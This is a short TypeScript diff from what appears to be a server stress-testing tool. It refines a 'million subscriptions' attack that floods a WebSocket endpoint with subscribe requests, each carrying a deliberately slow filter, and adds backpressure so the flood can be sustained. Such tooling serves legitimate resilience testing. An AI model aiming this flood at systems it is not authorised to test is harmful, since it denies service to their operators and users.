@@ -5,6 +5,9 @@ import { type Attacking, always, head, opened, raw, times, webSocket } from './l
 /** Words no event holds, so that every event is looked at for each. */
 const SLOW_FILTER = times(1600, (i) => `-zq${i}x`).join(' ')
 
+/** The attacker's own memory is not what is tried. */
+const MAX_BUFFERED_BYTES = 1024 * 1024
+
 /** Attacks by what is asked. */
 export const QUESTIONS: Readonly<Record<string, Attacking>> = {
   'a million subscriptions': {
@@ -14,7 +17,7 @@ export const QUESTIONS: Readonly<Record<string, Attacking>> = {
         const socket = await webSocket(target, end, answers)
         for (let id = 1; !end.aborted && socket.readyState === WebSocket.OPEN; id++) {
           socket.send(JSON.stringify({ id, method: 'subscribe', params: { filter: SLOW_FILTER } }))
-          if (id % 100 === 0) await sleep(5)
+          while (socket.bufferedAmount > MAX_BUFFERED_BYTES && socket.readyState === WebSocket.OPEN) await sleep(5)
         }
       }),
   },
